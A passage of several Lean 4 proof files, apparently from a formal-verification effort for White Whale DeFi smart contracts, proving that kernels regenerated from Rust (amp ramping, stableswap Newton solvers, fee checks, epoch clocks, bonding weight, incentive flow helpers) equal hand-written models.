  `commands::update_config` carries INLINE (`stableswap_3pool/src/commands.rs`, from `let invariant = StableSwap::new(..)`
  to `config.future_amp = ramp.future_a;`): the amp in force at the block height (`compute_amp_factor().unwrap()`),
  the `MIN_AMP` / `MAX_AMP` bounds, the ×`MAX_AMP_CHANGE` limit in both directions with its short-circuit evaluation and
  `u64` products, the `MIN_RAMP_BLOCKS` minimum, and the four `Config` fields written — against `WW.Trio.rampAmp`
  (`WW/Model/Trio.lean`), on which the ramp clauses of C04 and the amp clause of C18 rest.
  `WW.Gen.K.trio_ramp_validation` is regenerated from the handler's source lines on every check run by
  `tools/rs2lean.py` (fragment kernel; `env.block.height` and the four `config.*amp*` places are parameters, the
  constants are read from `contract.rs`); the theorem below is a proof obligation of C04 and C18.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Model.Trio
import WW.Props.Kernels.Amp
namespace WW.KernelsRamp
open WW WW.Gen WW.Trio

/-- **The ramp stretch of `update_config` equals the model's `rampAmp`** for EVERY stored ramp, block height and
    requested `(future_a, future_block)`: same panics (`compute_amp_factor` failing, a `u64` product or the height
    sum overflowing), same refusals, and the four stored values are `(amp now, future_a, height, future_block)`. -/
theorem gen_trio_ramp_validation_eq_model (A : AmpCfg) (h fa fb : Nat) :
    K.trio_ramp_validation A.init A.target A.start A.stop h ⟨fa, fb⟩
      = (rampAmp A h fa fb).bind (fun r => .ok (r.init, r.target, r.start, r.stop)) := by
  unfold K.trio_ramp_validation rampAmp K.StableSwap_new
  simp only [Res.pure_eq, Res.bind_ok_s]
  rw [KernelsAmp.gen_compute_amp_factor_eq_model]
  show (unwrapPanic (A.at h) >>= _) = _
  cases hc : A.at h with
  | err => rfl
  | panic => rfl
  | ok cur =>
    simp only [unwrapPanic, unwrapP, Res.bind_ok_s]
    by_cases h1 : fa < 1
    · have : ¬ (WW.Gen.TRIO_MIN_AMP ≤ fa) := by simp only [WW.Gen.TRIO_MIN_AMP]; omega
      simp only [if_pos h1, guardErr, decide_eq_true_eq, if_neg this, Res.bind_err_s]; rfl
    · have e1 : WW.Gen.TRIO_MIN_AMP ≤ fa := by simp only [WW.Gen.TRIO_MIN_AMP]; omega
      simp only [if_neg h1, guardErr, decide_eq_true_eq, if_pos e1, Res.bind_ok_s]
      by_cases h2 : fa > 1000000
      · have : ¬ (fa ≤ WW.Gen.TRIO_MAX_AMP) := by simp only [WW.Gen.TRIO_MAX_AMP]; omega
        simp only [if_pos h2, if_neg this, Res.bind_err_s]; rfl
      · have e2 : fa ≤ WW.Gen.TRIO_MAX_AMP := by simp only [WW.Gen.TRIO_MAX_AMP]; omega
        simp only [if_neg h2, if_pos e2, Res.bind_ok_s, WW.Gen.TRIO_MAX_AMP_CHANGE, WW.Gen.TRIO_MIN_RAMP_BLOCKS]
        unfold pmul padd
        by_cases hgt : fa > cur <;> by_cases hlt : fa < cur <;> by_cases ho1 : cur * 10 ≤ U64MAX <;>
          by_cases ho2 : fa * 10 ≤ U64MAX <;> by_cases hup : fa > cur * 10 <;> by_cases hdn : fa * 10 < cur <;>
          by_cases ho3 : h + 10000 ≤ U64MAX <;> by_cases hfb : fb < h + 10000 <;>
          first
            | (exfalso; omega)
            | (have hfb' : ¬ (h + 10000 ≤ fb) := by omega
               simp [hgt, hlt, ho1, ho2, hup, hdn, ho3, hfb, hfb', Res.bind])
            | (have hfb' : h + 10000 ≤ fb := by omega
               simp [hgt, hlt, ho1, ho2, hup, hdn, ho3, hfb, hfb', Res.bind])

/-- what an accepted ramp stores is what the model stores -/
theorem rampAmp_is_code (A A' : AmpCfg) (h fa fb : Nat) (hok : rampAmp A h fa fb = .ok A') :
    K.trio_ramp_validation A.init A.target A.start A.stop h ⟨fa, fb⟩ = .ok (A'.init, A'.target, A'.start, A'.stop) := by
  rw [gen_trio_ramp_validation_eq_model, hok]; rfl

/-- non-vacuity: amp 100 at rest, block 50 000: 100 → 150 over 20 000 blocks is stored; 100 → 5 (a 20× decrease) and a
    ramp of 9 999 blocks are refused -/
example : K.trio_ramp_validation 100 100 0 0 50000 ⟨150, 70000⟩ = .ok (100, 150, 50000, 70000) := by decide
example : K.trio_ramp_validation 100 100 0 0 50000 ⟨5, 70000⟩ = .err := by decide
example : K.trio_ramp_validation 100 100 0 0 50000 ⟨150, 59999⟩ = .err := by decide

end WW.KernelsRamp
