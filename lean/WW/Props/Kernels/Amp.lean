/-
  Regenerated kernel ↔ hand-written model, C04 (and the amplification clause of C18):
  `stableswap_3pool/src/stableswap_math/curve.rs` `StableSwap::compute_amp_factor`.
  `WW.Gen.K.compute_amp_factor` is regenerated from the Rust source text on every check run by
  `tools/rs2lean.py`; the theorem below is a proof obligation of C04 and C18.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
namespace WW.KernelsAmp
open WW WW.Gen

/-- The definition regenerated from `compute_amp_factor` equals the Trio model's `ampFactor` on ALL
    inputs (any five `Nat`s; the Rust fields are `u64`), `None` of the Rust being `err` on both sides. -/
theorem gen_compute_amp_factor_eq_model (s : K.StableSwap) :
    K.compute_amp_factor s
      = Trio.ampFactor s.initial_amp_factor s.target_amp_factor s.current_ts s.start_ramp_ts s.stop_ramp_ts := by
  unfold K.compute_amp_factor Trio.ampFactor
  simp only [Res.bind_ok_s, narrowTo_64] <;> rfl

/-- the same through the model's `AmpCfg.at` (what the Trio state machine calls) -/
theorem gen_compute_amp_factor_eq_AmpCfg_at (A : Trio.AmpCfg) (cur : Nat) :
    K.compute_amp_factor ⟨A.init, A.target, cur, A.start, A.stop⟩ = A.at cur := by
  rw [gen_compute_amp_factor_eq_model]; rfl

end WW.KernelsAmp
