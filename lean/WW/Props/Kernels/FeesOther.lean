/-
  Regenerated kernels ↔ hand-written model, C18:
  `white-whale-std/src/fee.rs` `VaultFee::is_valid`;
  `white-whale-std/src/pool_network/trio.rs` `PoolFee::is_valid` with `PoolFee::aggregate`.
  `WW.Gen.K.*` is regenerated from the Rust source text on every check run by `tools/rs2lean.py`;
  the theorems below are proof obligations of C18.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.KernelsFees
namespace WW.KernelsFeesOther
open WW WW.Gen WW.Config

/-- `VaultFee::is_valid` = the model's `fees3IsValid` on (protocol, flash loan, burn), for all shares -/
theorem gen_VaultFee_is_valid_eq_model (v : K.VaultFee) :
    K.VaultFee_is_valid v = fees3IsValid (Fees3.ofVault v) := by
  unfold K.VaultFee_is_valid
  simp only [K_Fee_is_valid_eq, percent_100]
  exact fees3_shape _ _ _

/-- 3pool `PoolFee::is_valid` = `fees3IsValid` on (protocol, swap, burn) -/
theorem gen_TrioPoolFee_is_valid_eq_model (p : K.TrioPoolFee) :
    K.TrioPoolFee_is_valid p = fees3IsValid (Fees3.ofTrioPool p) := by
  unfold K.TrioPoolFee_is_valid K.TrioPoolFee_aggregate
  simp only [K_Fee_is_valid_eq, percent_100, Res.bind_assoc', Res.bind_ok_s]
  exact fees3_shape _ _ _

end WW.KernelsFeesOther
