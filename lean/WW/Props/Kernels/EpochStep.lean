/-
  Regenerated FRAGMENT kernels ↔ hand-written model, C20: the clock arithmetic that the two epoch-creating handlers
  carry INLINE between their storage reads and their writes —
  `epoch-manager/src/commands.rs::create_epoch` (the "not expired" test on `env.block.time.minus_nanos(start)`, the
  `checked_add(1)` of the id, `start_time.plus_nanos(duration)`) against `WW.Epoch.Mgr.createEpoch`, and
  `fee_distributor/src/commands.rs::create_new_epoch` (the same test, the genesis branch of the very first epoch, the
  `plus_nanos` of later ones) against `WW.Epoch.Dist.createNewEpoch` (`WW/Model/Epoch.lean`).
  `WW.Gen.K.epoch_manager_create_epoch_clock` / `distributor_new_epoch_start` are regenerated from the handlers' source
  lines on every check run by `tools/rs2lean.py` (fragment kernels: `env.block.time`, `current_epoch.*`,
  `config.epoch_config.*` are parameters); the theorems below are proof obligations of C20.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Model.Epoch
namespace WW.KernelsEpochStep
open WW WW.Gen WW.Epoch

/-- **The epoch manager's `create_epoch` clock equals the model's** for EVERY stored state and block time: panic
    before the current epoch's start, `Err` while the epoch has not run its duration and when the id would leave
    `u64`, panic when the next start would leave `u64`, otherwise id + 1 and start + duration — the same outcome in
    the same order as `Mgr.createEpoch`, whose new current epoch is the pair the regenerated stretch returns. -/
theorem gen_epoch_manager_create_epoch_clock_eq_model (s : Mgr) (now : Nat) :
    K.epoch_manager_create_epoch_clock now s.cur.start s.cur.id s.cfg.duration
      = (Mgr.createEpoch s now).bind (fun r => .ok (r.1.cur.id, r.1.cur.start)) := by
  unfold K.epoch_manager_create_epoch_clock Mgr.createEpoch psub cadd padd
  by_cases h1 : now < s.cur.start
  · rw [if_neg (by omega : ¬ s.cur.start ≤ now), if_pos h1]; rfl
  · rw [if_pos (by omega : s.cur.start ≤ now), if_neg h1, Res.bind_ok_s]
    by_cases h2 : now - s.cur.start < s.cfg.duration
    · rw [if_pos h2, if_pos h2]; rfl
    · rw [if_neg h2, if_neg h2, Res.bind_ok_s]
      by_cases h3 : U64MAX < s.cur.id + 1
      · rw [if_neg (by omega : ¬ s.cur.id + 1 ≤ U64MAX), if_pos h3]; rfl
      · rw [if_pos (by omega : s.cur.id + 1 ≤ U64MAX), if_neg h3, Res.bind_ok_s]
        by_cases h4 : U64MAX < s.cur.start + s.cfg.duration
        · rw [if_neg (by omega : ¬ s.cur.start + s.cfg.duration ≤ U64MAX), if_pos h4]; rfl
        · rw [if_pos (by omega : s.cur.start + s.cfg.duration ≤ U64MAX), if_neg h4]; rfl

/-- the hook messages of a creation all carry the epoch the regenerated clock computed -/
theorem created_epoch_is_code_clock (s s' : Mgr) (now : Nat) (msgs : List (Nat × Ep))
    (h : Mgr.createEpoch s now = .ok (s', msgs)) :
    K.epoch_manager_create_epoch_clock now s.cur.start s.cur.id s.cfg.duration = .ok (s'.cur.id, s'.cur.start) := by
  rw [gen_epoch_manager_create_epoch_clock_eq_model, h]; rfl

/-- **The fee distributor's `create_new_epoch` start time equals the model's**, for EVERY stored state and block time:
    the regenerated stretch followed by the id's `checked_add(1)?` (which the handler performs inside the `Epoch { .. }`
    literal right after the stretch) is `Dist.createNewEpoch` — incl. the very first epoch (id 0 starting at time 0:
    start := genesis, `Err` before genesis, and the duration test against time 0). -/
theorem gen_distributor_new_epoch_start_eq_model (s : Dist) (now : Nat) :
    (K.distributor_new_epoch_start now s.cur.start s.cur.id s.cfg.duration s.cfg.genesis).bind
        (fun st => if U64MAX < s.cur.id + 1 then .err else .ok { s with cur := { id := s.cur.id + 1, start := st } })
      = Dist.createNewEpoch s now := by
  unfold K.distributor_new_epoch_start Dist.createNewEpoch Dist.isFirst psub padd
  by_cases h1 : now < s.cur.start
  · rw [if_neg (by omega : ¬ s.cur.start ≤ now), if_pos h1]; rfl
  · rw [if_pos (by omega : s.cur.start ≤ now), if_neg h1, Res.bind_ok_s]
    by_cases h2 : now - s.cur.start < s.cfg.duration
    · rw [if_pos h2, if_pos h2]; rfl
    · rw [if_neg h2, if_neg h2, Res.bind_ok_s]
      by_cases hf : s.cur.id = 0 ∧ s.cur.start = 0
      · have hb : (s.cur.id == 0 && s.cur.start == 0) = true := by
          simp only [Bool.and_eq_true, beq_iff_eq]; exact hf
        rw [if_pos hf, hb, if_pos rfl]
        dsimp only
        by_cases h3 : now < s.cfg.genesis
        · rw [if_pos h3, if_pos h3]; rfl
        · rw [if_neg h3, if_neg h3]; rfl
      · have hb : (s.cur.id == 0 && s.cur.start == 0) = false := by
          cases hq : (s.cur.id == 0 && s.cur.start == 0) with
          | false => rfl
          | true =>
            simp only [Bool.and_eq_true, beq_iff_eq] at hq
            exact absurd hq hf
        rw [if_neg hf, hb, if_neg Bool.false_ne_true]
        by_cases h4 : U64MAX < s.cur.start + s.cfg.duration
        · rw [if_neg (by omega : ¬ s.cur.start + s.cfg.duration ≤ U64MAX), if_pos h4]; rfl
        · rw [if_pos (by omega : s.cur.start + s.cfg.duration ≤ U64MAX), if_neg h4]; rfl

/-- non-vacuity: day-long epochs, epoch 7 started at t = 7 days; one nanosecond early is refused, on time it is created -/
example : K.epoch_manager_create_epoch_clock (8 * 86400000000000 - 1) (7 * 86400000000000) 7 86400000000000 = .err := by
  decide
example : K.epoch_manager_create_epoch_clock (8 * 86400000000000) (7 * 86400000000000) 7 86400000000000
    = .ok (8, 8 * 86400000000000) := by decide
example : K.distributor_new_epoch_start 1700000000000000000 0 0 86400000000000 1690000000000000000
    = .ok 1690000000000000000 := by decide

end WW.KernelsEpochStep
