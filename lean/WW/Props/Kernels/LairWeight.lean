/-
  Regenerated kernel ↔ hand-written model, C08: `whale_lair/src/state.rs::get_weight` (the bonding weight:
  `Timestamp::seconds`, `u64::checked_sub`, `Uint128::checked_mul`, `Uint128 * Decimal`, `Uint128::checked_add`)
  against `WW.Lair.getWeight` (`WW/Model/Lair.lean`; used by the model's bond / unbond / weight query).
  `WW.Gen.K.lair_get_weight` is regenerated from the Rust source text on every check run by
  `tools/rs2lean.py`; the theorem below is a proof obligation of C08.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Model.Lair
namespace WW.KernelsLairWeight
open WW WW.Gen WW.Lair

/-- The definition regenerated from `get_weight` equals the model `getWeight` on ALL inputs (timestamps in
    nanoseconds, weight, amount, growth rate as `Decimal` atomics: any `Nat`), including which of `Err`
    (time running backwards in whole seconds, `amount * seconds` or the sum above `u128`) / panic
    (`Uint128 * Decimal` above `u128`) a failing call ends in. -/
theorem gen_lair_get_weight_eq_model (now w amt rate ts : Nat) :
    K.lair_get_weight now w amt rate ts = getWeight now w amt rate ts := by
  unfold K.lair_get_weight getWeight
  have hk : ∀ tf : Nat,
      (cmul U128MAX amt tf >>= fun t2 => u128MulDec t2 rate >>= fun t3 => cadd U128MAX w t3 >>= fun t4 => Res.ok t4)
      = (cmul U128MAX amt tf >>= fun m => u128MulDec m rate >>= fun x => cadd U128MAX w x) := by
    intro tf
    exact congrArg _ (funext fun _ => congrArg _ (funext fun _ => Res.bind_ok_right _))
  by_cases h : ts = 0
  · rw [if_pos h, if_pos h]; exact congrArg _ (funext hk)
  · rw [if_neg h, if_neg h]; exact congrArg _ (funext hk)

end WW.KernelsLairWeight
