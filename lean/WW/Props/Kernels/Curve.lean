/-
  Regenerated kernels ↔ hand-written model, C04: the Newton solvers of
  `stableswap_3pool/src/stableswap_math/curve.rs` — `compute_next_d`, `compute_d` (256-round loop),
  `compute_mint_amount_for_deposit`, `compute_y_raw` (1000-round loop), `compute_y`.
  `WW.Gen.K.*` is regenerated from the Rust source text on every check run by `tools/rs2lean.py`
  (a `for _ in 0..N` loop over `let mut` locals becomes a structural recursion on the rounds left);
  the theorems below are proof obligations of C04.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Props.Kernels.Amp
namespace WW.KernelsCurve
open WW WW.Gen

/-- `compute_next_d` regenerated = the Trio model's `nextD` (`None` = `err`), for ALL inputs -/
theorem gen_trio_compute_next_d_eq_model (s : K.StableSwap) (amp dInit dProd sumX : Nat) :
    K.trio_compute_next_d s amp dInit dProd sumX = Trio.nextD amp dInit dProd sumX := by
  unfold K.trio_compute_next_d Trio.nextD
  simp only [unwrapPanic_cmul, unwrapPanic_cadd, unwrapPanic_cdiv, cadd_u8_3_1, Res.bind_ok_s,
    Res.bind_ok_right] <;> rfl

/-- the `for _ in 0..256` loop of `compute_d`, for every number of rounds left and every state -/
theorem gen_trio_compute_d_loop_eq_model (s : K.StableSwap) (sumX amp a3 b3 c3 : Nat) :
    ∀ fuel d, K.trio_compute_d_loop1 s sumX amp a3 b3 c3 fuel d = Trio.dLoop amp a3 b3 c3 sumX fuel d := by
  intro fuel
  induction fuel with
  | zero => intro d; unfold K.trio_compute_d_loop1 Trio.dLoop; rfl
  | succ n ih =>
    intro d
    unfold K.trio_compute_d_loop1 Trio.dLoop Trio.dStep
    simp only [unwrapPanic_cmul, unwrapPanic_cdiv, unwrapPanic_csub,
      gen_trio_compute_next_d_eq_model, ih, Res.pure_eq, newton_tail]
    simp only [unwrapPanic_eq_unwrapP, Res.bind_assoc'] <;> rfl

/-- `compute_d` regenerated = the Trio model's `computeD`, for ALL inputs (ramp record, three reserves) -/
theorem gen_trio_compute_d_eq_model (s : K.StableSwap) (a b c : Nat) :
    K.trio_compute_d s a b c
      = Trio.computeD ⟨s.initial_amp_factor, s.target_amp_factor, s.start_ramp_ts, s.stop_ramp_ts⟩
          s.current_ts a b c := by
  unfold K.trio_compute_d Trio.computeD Trio.AmpCfg.at
  simp only [unwrapPanic_cmul, unwrapPanic_cadd, KernelsAmp.gen_compute_amp_factor_eq_model,
    gen_trio_compute_d_loop_eq_model, Res.bind_ok_right] <;> rfl

/-- `compute_mint_amount_for_deposit` regenerated = `mintAmount` (`None` = `err`), for ALL inputs -/
theorem gen_trio_compute_mint_amount_for_deposit_eq_model (s : K.StableSwap)
    (da db dc sa sb sc supply : Nat) :
    K.trio_compute_mint_amount_for_deposit s da db dc sa sb sc supply
      = Trio.mintAmount ⟨s.initial_amp_factor, s.target_amp_factor, s.start_ramp_ts, s.stop_ramp_ts⟩
          s.current_ts da db dc sa sb sc supply := by
  unfold K.trio_compute_mint_amount_for_deposit Trio.mintAmount
  simp only [unwrapPanic_cmul, unwrapPanic_cadd, unwrapPanic_cdiv, unwrapPanic_csub,
    unwrapPanic_narrowTo_128, gen_trio_compute_d_eq_model, Res.bind_ok_right] <;> rfl

/-- the `for _ in 0..1000` loop of `compute_y_raw`, for every number of rounds left and every state -/
theorem gen_trio_compute_y_raw_loop_eq_model (d c b : Nat) :
    ∀ fuel y, K.trio_compute_y_raw_loop1 d c b fuel y = Trio.yLoop b c d fuel y := by
  intro fuel
  induction fuel with
  | zero => intro y; unfold K.trio_compute_y_raw_loop1 Trio.yLoop; rfl
  | succ n ih =>
    intro y
    unfold K.trio_compute_y_raw_loop1 Trio.yLoop
    simp only [unwrapPanic_cmul, unwrapPanic_cadd, unwrapPanic_cdiv, unwrapPanic_csub, ih,
      Res.pure_eq, newton_tail] <;> rfl

/-- `compute_y_raw` regenerated = the Trio model's `yRaw`, for ALL inputs -/
theorem gen_trio_compute_y_raw_eq_model (s : K.StableSwap) (swapIn noSwap d : Nat) :
    K.trio_compute_y_raw s swapIn noSwap d
      = Trio.yRaw ⟨s.initial_amp_factor, s.target_amp_factor, s.start_ramp_ts, s.stop_ramp_ts⟩
          s.current_ts swapIn noSwap d := by
  unfold K.trio_compute_y_raw Trio.yRaw Trio.AmpCfg.at
  simp only [unwrapPanic_cmul, unwrapPanic_cadd, unwrapPanic_cdiv,
    KernelsAmp.gen_compute_amp_factor_eq_model, gen_trio_compute_y_raw_loop_eq_model,
    Res.bind_ok_right] <;> rfl

/-- `compute_y` regenerated = the Trio model's `computeY`, for ALL inputs -/
theorem gen_trio_compute_y_eq_model (s : K.StableSwap) (x noSwap d : Nat) :
    K.trio_compute_y s x noSwap d
      = Trio.computeY ⟨s.initial_amp_factor, s.target_amp_factor, s.start_ramp_ts, s.stop_ramp_ts⟩
          s.current_ts x noSwap d := by
  unfold K.trio_compute_y Trio.computeY
  simp only [unwrapPanic_narrowTo_128, gen_trio_compute_y_raw_eq_model, Res.bind_ok_right] <;> rfl

/-- `swap_to` regenerated = the Trio model's `swapTo` (field by field), for ALL inputs -/
theorem gen_trio_swap_to_eq_model (s : K.StableSwap) (srcAmt swapSrc swapDst unsw : Nat) :
    K.trio_swap_to s srcAmt swapSrc swapDst unsw
      = (Trio.swapTo ⟨s.initial_amp_factor, s.target_amp_factor, s.start_ramp_ts, s.stop_ramp_ts⟩
          s.current_ts srcAmt swapSrc swapDst unsw).mapTo
          (fun r => { new_source_amount := r.newSource, new_destination_amount := r.newDest,
                      amount_swapped := r.swapped }) := by
  unfold K.trio_swap_to Trio.swapTo Res.mapTo
  simp only [unwrapPanic_cadd, unwrapPanic_csub, gen_trio_compute_d_eq_model, gen_trio_compute_y_eq_model,
    Res.bind_assoc', Res.pure_eq, Res.bind_ok_s]
  simp only [unwrapPanic_eq_unwrapP] <;> rfl

end WW.KernelsCurve
