/-
  Regenerated kernel ↔ hand-written model, C08 / C09: `whale_lair/src/helpers.rs::calculate_epoch`
  (`Timestamp::nanos`, `Uint64::checked_sub / checked_div / checked_add`, `StdResult<Uint64>`) against
  `WW.Lair.calcEpoch` (`WW/Model/Lair.lean`: the `first_bonded_epoch_id` of the `Bonded` query, which C08's
  `first_bonded_epoch_brackets_bond_time` and C09's bond-time theorem speak about).
  `WW.Gen.K.lair_calculate_epoch` is regenerated from the Rust source text on every check run by
  `tools/rs2lean.py`; the theorem below is a proof obligation of C08 and C09.  Theorems only.
-/
import WW.Gen.Kernels
import WW.Proofs.Kernels
import WW.Model.Lair
namespace WW.KernelsLairEpoch
open WW WW.Gen WW.Lair

/-- The definition regenerated from `calculate_epoch` equals the model `calcEpoch` on ALL inputs: every
    genesis epoch configuration (`duration`, `genesis_epoch`: any `Nat`; the Rust `Uint64` is a sub-range),
    every timestamp — including the `Err` of a zero duration (`checked_div`) and of `elapsed / duration + 1`
    exceeding `u64` (`checked_add`).  The model's `Cfg` carries the two fields as `epochDur` / `genesis`;
    its other fields are not read. -/
theorem gen_lair_calculate_epoch_eq_model (cfg : Cfg) (ts : Nat) :
    K.lair_calculate_epoch { duration := cfg.epochDur, genesis_epoch := cfg.genesis } ts = calcEpoch cfg ts := by
  unfold K.lair_calculate_epoch calcEpoch
  by_cases h : ts < cfg.genesis
  · rw [if_pos h, if_pos h]
  · rw [if_neg h, if_neg h]
    have hs : csub ts cfg.genesis = .ok (ts - cfg.genesis) := by
      unfold csub; rw [if_pos (Nat.le_of_not_lt h)]
    rw [hs, Res.bind_ok_s]
    exact congrArg _ (funext fun q => Res.bind_ok_right _)

/-- the same for an arbitrary generated `EpochConfig` -/
theorem gen_lair_calculate_epoch_eq_model_any (c : K.EpochConfig) (cfg : Cfg)
    (hd : cfg.epochDur = c.duration) (hg : cfg.genesis = c.genesis_epoch) (ts : Nat) :
    K.lair_calculate_epoch c ts = calcEpoch cfg ts := by
  rw [← gen_lair_calculate_epoch_eq_model, hd, hg]

end WW.KernelsLairEpoch
