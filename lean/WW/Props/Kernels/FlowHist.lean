/-
  Regenerated kernel ↔ hand-written model, C12 / C13: the three storage-free flow helpers of
  `contracts/liquidity_hub/pool-network/incentive/src/helpers.rs`

    get_flow_asset_amount_at_epoch(flow, epoch)   ↔  `WW.Inc.Flow.amountAt`
    get_flow_current_end_epoch(flow, epoch)       ↔  `WW.Inc.Flow.endAt`
    get_flow_end_epoch(flow)                      ↔  `(WW.Inc.Flow.expanded f).2`  (over `Flow.lastHist`)

  (`WW/Model/Incentive.lean`: the emission of every claim / rewards-query iteration is
  `(amountAt ep - emitted) / (endAt ep - ep)`; `expanded` is what `claim`, `get_rewards`, `expand_flow` and
  `close_flow` take as the flow's funded amount and final end epoch — C12's `funded`, C13's emission.)
  `WW.Gen.K.get_flow_*` are regenerated from the Rust source text on every check run by `tools/rs2lean.py`;
  the theorems below are proof obligations of C12 and C13.

  Map semantics: `flow.asset_history : BTreeMap<u64, (Uint128, u64)>` is an association list of its entries,
  read by the two primitives of `WW/Cw/BTree.lean` (`last_key_value`, `range(..=e).next_back()`); the model
  keeps the same list in `Flow.hist` and reads it with its own folds `maxKey` / `maxKeyLE`.  The two pairs of
  functions are equal on EVERY list (`WW/Proofs/BTreeKeys.lean`), so no well-formedness hypothesis (sorted,
  distinct keys) is needed here.

  Adapter `toK`: the Rust `Flow` is regenerated as the structure `K.Flow` of its fields inside the
  translator's type table (`flow_id`, `flow_asset.amount`, `claimed_amount`, `start_epoch`, `end_epoch`,
  `asset_history`; `flow_label`, `flow_creator`, `curve`, `emitted_tokens`, `flow_asset.info` are dropped — the
  three helpers do not read them); `toK` maps a model flow onto it field by field and every `K.Flow` is an
  image (`toK_surjective`).  The only definition of this file is that adapter; everything else is a theorem.
-/
import WW.Gen.Kernels
import WW.Proofs.BTreeKeys
import WW.Model.Incentive
namespace WW.KernelsFlowHist
open WW WW.Gen

/-- model flow ↦ the regenerated projection of the Rust `Flow` -/
def toK (f : Inc.Flow) : K.Flow :=
  { flow_id := f.id, flow_asset := { amount := f.amount }, claimed_amount := f.claimed,
    start_epoch := f.startE, end_epoch := f.endE, asset_history := f.hist }

/-- every value of the regenerated `Flow` is the image of a model flow -/
theorem toK_surjective (g : K.Flow) : ∃ f, toK f = g :=
  ⟨{ id := g.flow_id, creator := 0, asset := 0, amount := g.flow_asset.amount, claimed := g.claimed_amount,
     startE := g.start_epoch, endE := g.end_epoch, emitted := [], hist := g.asset_history }, rfl⟩

/-- The definition regenerated from `get_flow_asset_amount_at_epoch` equals the model's `Flow.amountAt` for
    ALL flows (any history list: any keys in any order, repeated or not; any amounts) and ALL epochs; the
    Rust function cannot fail, so the value is `Res.ok`. -/
theorem gen_get_flow_asset_amount_at_epoch_eq_model (f : Inc.Flow) (e : Nat) :
    K.get_flow_asset_amount_at_epoch (toK f) e = Res.ok (f.amountAt e) := by
  unfold K.get_flow_asset_amount_at_epoch Inc.Flow.amountAt toK
  show Res.ok (match btreeRangeToInclNextBack f.hist e with
               | some (_, (a, _)) => a
               | _ => f.amount) = _
  rw [btreeRangeToInclNextBack_eq_maxKeyLE]
  cases Inc.maxKeyLE f.hist e with
  | none => rfl
  | some r => rfl

/-- The definition regenerated from `get_flow_current_end_epoch` equals the model's `Flow.endAt` for ALL
    flows and ALL epochs. -/
theorem gen_get_flow_current_end_epoch_eq_model (f : Inc.Flow) (e : Nat) :
    K.get_flow_current_end_epoch (toK f) e = Res.ok (f.endAt e) := by
  unfold K.get_flow_current_end_epoch Inc.Flow.endAt toK
  show Res.ok (match btreeRangeToInclNextBack f.hist e with
               | some (_, (_, en)) => en
               | _ => f.endE) = _
  rw [btreeRangeToInclNextBack_eq_maxKeyLE]
  cases Inc.maxKeyLE f.hist e with
  | none => rfl
  | some r => rfl

/-- The definition regenerated from `get_flow_end_epoch` equals the end epoch the model uses for the whole
    flow — the second component of `Flow.expanded` (the latest expansion's `(amount, end_epoch)` by
    `Flow.lastHist`, else the original ones): `expEnd` of `claimFlow` / the rewards query / `expandFlow` —
    for ALL flows. -/
theorem gen_get_flow_end_epoch_eq_model (f : Inc.Flow) :
    K.get_flow_end_epoch (toK f) = Res.ok f.expanded.2 := by
  unfold K.get_flow_end_epoch Inc.Flow.expanded Inc.Flow.lastHist toK
  show Res.ok (match btreeLastKeyValue f.hist with
               | some (_, (_, en)) => en
               | _ => f.endE) = _
  rw [btreeLastKeyValue_eq_maxKey]
  cases Inc.maxKey f.hist with
  | none => rfl
  | some r => rfl

/-- the same three equalities for an arbitrary value `g` of the regenerated `Flow` and any model flow that
    agrees with it on the three fields read -/
theorem gen_flow_helpers_eq_model_any (g : K.Flow) (f : Inc.Flow)
    (ha : f.amount = g.flow_asset.amount) (he : f.endE = g.end_epoch) (hh : f.hist = g.asset_history) (e : Nat) :
    K.get_flow_asset_amount_at_epoch g e = Res.ok (f.amountAt e)
    ∧ K.get_flow_current_end_epoch g e = Res.ok (f.endAt e)
    ∧ K.get_flow_end_epoch g = Res.ok f.expanded.2 := by
  have h1 := gen_get_flow_asset_amount_at_epoch_eq_model f e
  have h2 := gen_get_flow_current_end_epoch_eq_model f e
  have h3 := gen_get_flow_end_epoch_eq_model f
  unfold K.get_flow_asset_amount_at_epoch toK at h1
  unfold K.get_flow_current_end_epoch toK at h2
  unfold K.get_flow_end_epoch toK at h3
  unfold K.get_flow_asset_amount_at_epoch K.get_flow_current_end_epoch K.get_flow_end_epoch
  rw [← ha, ← he, ← hh]
  exact ⟨h1, h2, h3⟩

/-- the primitives' own meaning carried over to the model: `amountAt` / `endAt` read an entry of the history
    with the greatest key `≤ e`, or the original values when there is none (any list) -/
theorem amountAt_endAt_spec (f : Inc.Flow) (e : Nat) :
    (∃ r ∈ f.hist, r.1 ≤ e ∧ (∀ x ∈ f.hist, x.1 ≤ e → x.1 ≤ r.1) ∧ f.amountAt e = r.2.1 ∧ f.endAt e = r.2.2)
    ∨ ((∀ x ∈ f.hist, ¬ x.1 ≤ e) ∧ f.amountAt e = f.amount ∧ f.endAt e = f.endE) := by
  unfold Inc.Flow.amountAt Inc.Flow.endAt
  rw [← btreeRangeToInclNextBack_eq_maxKeyLE]
  cases h : btreeRangeToInclNextBack f.hist e with
  | none => exact Or.inr ⟨(btreeRangeToInclNextBack_none_iff _ _).mp h, rfl, rfl⟩
  | some r =>
    have ⟨hm, hb, hall⟩ := btreeRangeToInclNextBack_some h
    exact Or.inl ⟨r, hm, hb, hall, rfl, rfl⟩

/-- concrete values (unsorted history, the bound between two keys, no key below the bound, empty history) -/
example :
    K.get_flow_asset_amount_at_epoch
      (toK { id := 1, creator := 2, asset := 1, amount := 1000, claimed := 0, startE := 3, endE := 17,
             emitted := [], hist := [(9, (3000, 40)), (5, (2000, 30))] }) 7 = Res.ok 2000
    ∧ K.get_flow_current_end_epoch
      (toK { id := 1, creator := 2, asset := 1, amount := 1000, claimed := 0, startE := 3, endE := 17,
             emitted := [], hist := [(9, (3000, 40)), (5, (2000, 30))] }) 4 = Res.ok 17
    ∧ K.get_flow_end_epoch
      (toK { id := 1, creator := 2, asset := 1, amount := 1000, claimed := 0, startE := 3, endE := 17,
             emitted := [], hist := [(9, (3000, 40)), (5, (2000, 30))] }) = Res.ok 40
    ∧ K.get_flow_end_epoch
      (toK { id := 1, creator := 2, asset := 1, amount := 1000, claimed := 0, startE := 3, endE := 17,
             emitted := [], hist := [] }) = Res.ok 17 := by decide

end WW.KernelsFlowHist
