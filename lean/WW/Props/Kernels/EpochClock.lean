/-
